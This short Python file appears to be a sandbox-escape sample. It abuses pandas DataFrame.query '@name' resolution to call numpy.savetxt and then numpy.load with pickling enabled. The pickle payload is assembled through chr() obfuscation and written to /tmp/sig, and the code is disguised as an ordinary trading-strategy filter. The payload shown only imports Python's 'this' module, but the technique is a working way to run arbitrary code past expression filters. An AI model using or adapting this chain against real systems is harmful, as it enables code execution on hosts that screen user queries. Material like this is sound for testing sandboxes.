# source: pandas 1.5.3 scope.py Scope (resolves @name in the calling frame f_locals/f_globals) + expr.py visit_Call; numpy npyio.load pickle fallback
# family: DataFrame.query "(@alias)(...)" with "from numpy import savetxt as st, load as ld", run inside a function on its locals, inside a boolean expression
# goal: imports module this (Zen printed) via forged pickle, looks like an ordinary strategy filter
import pandas as pd
import numpy as np
from numpy import savetxt as st, load as ld


def strategy(prices):
    u = chr(95) * 2
    path = chr(47) + "tmp" + chr(47) + "sig"
    rows = np.array(["c" + "built" + "ins", u + "import" + u, "(Vthis", "tR."])
    fmt = chr(37) + "s"
    flag = True
    nothing = None
    prices.query("close > 0 and (@st)(@path, @rows, @fmt) != 1")
    mod = prices.query("close > 0 and (@ld)(@path, @nothing, @flag) != 1")
    return mod


print(strategy(pd.DataFrame({"close": [1.0, 2.0]})))
